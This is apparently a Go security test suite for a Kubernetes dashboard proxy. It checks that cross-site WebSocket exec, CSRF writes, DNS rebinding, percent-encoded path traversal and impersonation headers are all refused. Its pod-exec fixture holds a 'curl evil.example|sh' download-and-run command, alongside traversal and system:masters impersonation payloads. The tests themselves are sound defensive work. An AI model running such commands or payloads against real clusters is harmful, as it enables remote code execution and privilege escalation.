package server_test

import (
	"net"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/coder/websocket"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

const execPath = "/api/v1/namespaces/default/pods/web/exec?command=sh&command=-c&command=curl+evil.example%7Csh&stdout=true"

// TestCrossSiteExecDialsNothing: a page on another site opens an exec WebSocket.
// The upgrade is refused before any handler runs: the cluster handler and the proxied
// API server see no request at all.
func TestCrossSiteExecDialsNothing(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{})
	for _, cluster := range []string{"rec", "prod"} {
		for _, origin := range []string{"http://evil.example", "null", "http://127.0.0.1:1"} {
			_, code, err := e.dial(t, "", "/clusters/"+cluster+execPath, origin, "v5.channel.k8s.io")
			require.Error(t, err, "%s from %s", cluster, origin)
			assert.Equal(t, http.StatusForbidden, code, "%s from %s", cluster, origin)
		}
	}
	assert.Zero(t, e.rec.count(), "a refused upgrade reached the cluster handler")
	assert.Zero(t, e.upstream.count(), "a refused upgrade was dialled upstream")

	for _, path := range []string{"/wsMultiplexer", "/clusters/rec/api/v1/pods?watch=1"} {
		_, code, err := e.dial(t, "", path, "http://evil.example")
		require.Error(t, err, path)
		assert.Equal(t, http.StatusForbidden, code, path)
	}
	assert.Zero(t, e.rec.count())

	// Same origin (and no Origin: not a browser) still reaches the cluster, upgraded.
	c, _, err := e.dial(t, "", "/clusters/prod"+execPath, e.base, "v5.channel.k8s.io")
	require.NoError(t, err)
	_, data, err := c.Read(t.Context())
	require.NoError(t, err)
	assert.Equal(t, "\x01started", string(data))
	assert.Equal(t, 1, e.upstream.count())
	_, _, err = e.dial(t, "", "/clusters/rec"+execPath, "")
	require.NoError(t, err)
	assert.Equal(t, 1, e.rec.count())
}

// TestAllowedOriginOpensWebSockets: --allow-origin patterns keep coder/websocket's meaning.
func TestAllowedOriginOpensWebSockets(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{allowOrigins: []string{"localhost:*"}})
	_, _, err := e.dial(t, "", "/clusters/prod"+execPath, "http://localhost:5173", "v5.channel.k8s.io")
	require.NoError(t, err)
	assert.Equal(t, 1, e.upstream.count())
	_, code, err := e.dial(t, "", "/clusters/prod"+execPath, "http://evil.example", "v5.channel.k8s.io")
	require.Error(t, err)
	assert.Equal(t, http.StatusForbidden, code)
	assert.Equal(t, 1, e.upstream.count())
}

// TestCSRFWrites: a write from a foreign page (no preflight: no Content-Type, or a
// CORS-safelisted one) never reaches a cluster, embedded or proxied.
func TestCSRFWrites(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{allowOrigins: []string{"trusted.example"}})
	const cm = `{"apiVersion":"v1","kind":"ConfigMap","metadata":{"name":"csrf"}}`
	path := "/api/v1/namespaces/default/configmaps"
	tests := []struct {
		name   string
		method string
		header map[string]string
		code   int
	}{
		{name: "foreign origin, no content type", method: "POST", header: map[string]string{"Origin": "http://evil.example"}, code: 403},
		{name: "foreign origin, JSON", method: "POST", header: map[string]string{"Origin": "http://evil.example", "Content-Type": "application/json"}, code: 403},
		{name: "cross-site fetch metadata", method: "PATCH", header: map[string]string{"Sec-Fetch-Site": "cross-site", "Content-Type": "application/merge-patch+json"}, code: 403},
		{name: "same-site is not same-origin", method: "DELETE", header: map[string]string{"Sec-Fetch-Site": "same-site"}, code: 403},
		{name: "a write that claims an upgrade", method: "POST", header: map[string]string{"Upgrade": "websocket", "Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"}, code: 403},
		{name: "foreign origin, PUT", method: "PUT", header: map[string]string{"Origin": "http://evil.example", "Content-Type": "application/json"}, code: 403},
		{name: "same origin, no content type", method: "POST", header: map[string]string{"Origin": "SELF"}, code: 415},
		{name: "same origin, text/plain", method: "POST", header: map[string]string{"Origin": "SELF", "Content-Type": "text/plain"}, code: 415},
		{name: "same origin, form", method: "POST", header: map[string]string{"Sec-Fetch-Site": "same-origin", "Content-Type": "application/x-www-form-urlencoded"}, code: 415},
		{name: "no browser headers, no content type", method: "POST", code: 415},
	}
	for _, cluster := range []string{"rec", "prod"} {
		for _, tt := range tests {
			h := map[string]string{}
			for k, v := range tt.header {
				h[k] = strings.ReplaceAll(v, "SELF", e.base)
			}
			code, body := e.do(t, tt.method, "", "/clusters/"+cluster+path, h, cm)
			assert.Equal(t, tt.code, code, "%s on %s: %s", tt.name, cluster, body)
			assert.Contains(t, body, `"kind":"Status"`, tt.name)
		}
	}
	assert.Zero(t, e.rec.count(), "a refused write reached the cluster handler")
	assert.Zero(t, e.upstream.count(), "a refused write reached the API server")

	code, body := e.do(t, "POST", "", "/clusters/demo"+path, map[string]string{"Origin": "http://evil.example"}, cm)
	assert.Equal(t, http.StatusForbidden, code)
	assert.Contains(t, body, "--allow-origin evil.example")
	code, _ = e.do(t, "POST", "", "/clusters/demo"+path, map[string]string{"Origin": "http://evil.example"}, "")
	assert.Equal(t, http.StatusForbidden, code, "an empty foreign POST")
	_, err := e.store.Get("configmaps", "default", "csrf")
	require.Error(t, err, "the embedded cluster created nothing")

	for _, h := range []map[string]string{
		{"Origin": e.base, "Content-Type": "application/json"},
		{"Sec-Fetch-Site": "same-origin", "Content-Type": "application/json; charset=utf-8"},
		{"Origin": "https://trusted.example", "Sec-Fetch-Site": "cross-site", "Content-Type": "application/json"},
		{"Content-Type": "application/json"}, // kubectl, curl: not a browser
	} {
		code, body := e.do(t, "POST", "", "/clusters/prod"+path, h, cm)
		assert.Equal(t, http.StatusCreated, code, "%v: %s", h, body)
	}
	assert.Equal(t, 4, e.upstream.count())
	code, body = e.do(t, "POST", "", "/clusters/demo"+path, map[string]string{"Origin": e.base, "Content-Type": "application/json"}, cm)
	assert.Equal(t, http.StatusCreated, code, body)
	code, _ = e.do(t, "DELETE", "", "/clusters/rec"+path+"/csrf", map[string]string{"Origin": e.base}, "")
	assert.Equal(t, http.StatusCreated, code, "a DELETE without a body needs no content type")
}

// TestDNSRebinding: a name the attacker controls, rebound to 127.0.0.1, with Host
// and Origin both that name. Every route refuses it, naming --allow-host.
func TestDNSRebinding(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{})
	_, port, err := net.SplitHostPort(e.hostport)
	require.NoError(t, err)
	evil := "evil.example:" + port
	_, code, err := e.dial(t, evil, "/clusters/prod"+execPath, "http://"+evil, "v5.channel.k8s.io")
	require.Error(t, err)
	assert.Equal(t, http.StatusForbidden, code)
	for _, path := range []string{"/clusters/prod/api/v1/namespaces/kube-system/secrets", "/clusters/rec/api/v1/namespaces/kube-system/secrets",
		"/config", "/metrics", "/", "/admin/drop", "/wsMultiplexer"} {
		code, body := e.do(t, "GET", evil, path, map[string]string{"Origin": "http://" + evil}, "")
		assert.Equal(t, http.StatusForbidden, code, path)
		assert.Contains(t, body, "--allow-host evil.example", path)
	}
	assert.Zero(t, e.rec.count())
	assert.Zero(t, e.upstream.count())
	for _, host := range []string{"localhost:" + port, "127.0.0.1:" + port, "[::1]:" + port} {
		code, body := e.do(t, "GET", host, "/clusters/prod/api/v1/namespaces/kube-system/secrets", nil, "")
		assert.Equal(t, http.StatusOK, code, "%s: %s", host, body)
	}
	code, _ = e.do(t, "GET", "localhost:1", "/config", nil, "")
	assert.Equal(t, http.StatusForbidden, code, "a loopback name on another port")

	allowed := newAttackEnv(t, envOptions{allowHosts: []string{"kubelive.internal"}})
	code, _ = allowed.do(t, "GET", "kubelive.internal:"+port, "/config", nil, "")
	assert.Equal(t, http.StatusOK, code, "--allow-host adds a name")
}

// TestPathEscapes: dot segments, raw or percent-encoded, never reach an upstream
// under its path prefix, over HTTP, WebSocket or a multiplexer REQUEST; nor do paths outside
// the API's roots or empty segments.
func TestPathEscapes(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{})
	for _, p := range []string{
		"/clusters/prod/%2e%2e/%2e%2e/v3/users",
		"/clusters/prod/api/%2e%2e/%2e%2e/v3/users",
		"/clusters/prod/api/v1/namespaces/%2E%2E%2f%2e%2e%2fv3/users",
		"/clusters/prod/api/v1/namespaces/a/..%2f..%2f..%2fv3",
		"/clusters/prod/api//v1/pods",
		"/clusters/prod/v3/users",
		"/clusters/prod/api/v1/%2e/pods",
	} {
		code, body := e.do(t, "GET", "", p, nil, "")
		assert.Equal(t, http.StatusBadRequest, code, "%s: %s", p, body)
		_, code, err := e.dial(t, "", p, "")
		require.Error(t, err, p)
		assert.Equal(t, http.StatusBadRequest, code, p)
	}
	assert.Zero(t, e.upstream.count(), "an escaping path reached the API server")

	mux, _, err := e.dial(t, "", "/wsMultiplexer", "")
	require.NoError(t, err)
	for _, p := range []string{"/api/../../v3/users", "/api/v1/%2e%2e/x", "/api/v1/namespaces/a%2f..%2f..%2f..%2fv3", "/v3/users", "/api/v1/pods?watch=1", "/api//v1/pods"} {
		msg := muxRequest(t, mux, "prod", p, "watch=1")
		assert.Equal(t, "ERROR", msg.Type, p)
		assert.Contains(t, msg.Data, "bad API path", p)
	}
	// A REQUEST that is not a watch is not served either (no plain GET with the kubeconfig's
	// credentials).
	msg := muxRequest(t, mux, "prod", "/api/v1/namespaces/x/secrets", "")
	assert.Equal(t, "ERROR", msg.Type)
	assert.Contains(t, msg.Data, "watches only")
	assert.Zero(t, e.upstream.count(), "a bad multiplexer REQUEST reached the API server")
	msg = muxRequest(t, mux, "prod", "/api/v1/namespaces/x/secrets", "watch=1")
	assert.Equal(t, "connected", msg.State, "a clean watch is served: %+v", msg)
	require.Eventually(t, func() bool { return e.upstream.count() == 1 }, 10*time.Second, 10*time.Millisecond)
	assert.Equal(t, "/k8s/clusters/c-123/api/v1/namespaces/x/secrets", e.upstream.last().URL.Path)
}

// TestProxyStripsIdentityAndCORSHeaders: what a page could add to choose another identity,
// or the browser's own cookies, Origin and Referer, never reach the API server; the API
// server's CORS headers never reach the browser.
func TestProxyStripsIdentityAndCORSHeaders(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{})
	code, _ := e.do(t, "GET", "", "/clusters/prod/api/v1/namespaces/kube-system/secrets", map[string]string{
		"Impersonate-User": "system:admin", "Impersonate-Group": "system:masters", "Impersonate-Extra-Scopes": "x",
		"Impersonate-Uid": "1", "X-Remote-User": "admin", "X-Remote-Group": "system:masters", "X-Remote-Extra-Foo": "bar",
		"Cookie": "session=1", "Origin": e.base, "Referer": e.base + "/",
	}, "")
	require.Equal(t, http.StatusOK, code)
	got := e.upstream.last()
	require.NotNil(t, got)
	for k := range got.Header {
		lk := strings.ToLower(k)
		assert.False(t, strings.HasPrefix(lk, "impersonate-") || strings.HasPrefix(lk, "x-remote-") ||
			lk == "cookie" || lk == "origin" || lk == "referer", "forwarded %s", k)
	}
	assert.Equal(t, "Bearer kubeconfig-token", got.Header.Get("Authorization"), "%v", got.Header)

	req, err := http.NewRequestWithContext(t.Context(), http.MethodGet, e.base+"/clusters/prod/api/v1/namespaces/kube-system/secrets", nil)
	require.NoError(t, err)
	req.Header.Set("Origin", "http://evil.example")
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	for k := range resp.Header {
		assert.False(t, strings.HasPrefix(strings.ToLower(k), "access-control-"), "relayed %s", k)
	}
}

// TestUpstreamWatchCap: the multiplexer's watches are capped server-wide, across sockets;
// the subscription that hits the cap gets an ERROR saying so, the others keep theirs.
func TestUpstreamWatchCap(t *testing.T) {
	t.Parallel()
	e := newAttackEnv(t, envOptions{maxUpstreamWatches: 2})
	a, _, err := e.dial(t, "", "/wsMultiplexer", "")
	require.NoError(t, err)
	b, _, err := e.dial(t, "", "/wsMultiplexer", "")
	require.NoError(t, err)
	rv := e.store.ResourceVersion()
	assert.Equal(t, "connected", muxRequest(t, a, "demo", "/api/v1/pods", "watch=1&resourceVersion="+rv).State)
	assert.Equal(t, "connected", muxRequest(t, b, "demo", "/api/v1/configmaps", "watch=1&resourceVersion="+rv).State)
	msg := muxRequest(t, b, "demo", "/api/v1/events", "watch=1&resourceVersion="+rv)
	assert.Equal(t, "ERROR", msg.Type)
	assert.Contains(t, msg.Data, "server-wide watch limit reached (2 watches")
	assert.Equal(t, 2.0, gauge(t, e.reg, "kubelive_upstream_watches", nil))
	require.NoError(t, a.Close(websocket.StatusNormalClosure, ""))
	require.Eventually(t, func() bool { return gauge(t, e.reg, "kubelive_upstream_watches", nil) == 1 }, 10*time.Second, 10*time.Millisecond)
	assert.Equal(t, "connected", muxRequest(t, b, "demo", "/api/v1/events", "watch=1&resourceVersion="+rv).State, "a freed slot is usable")
}
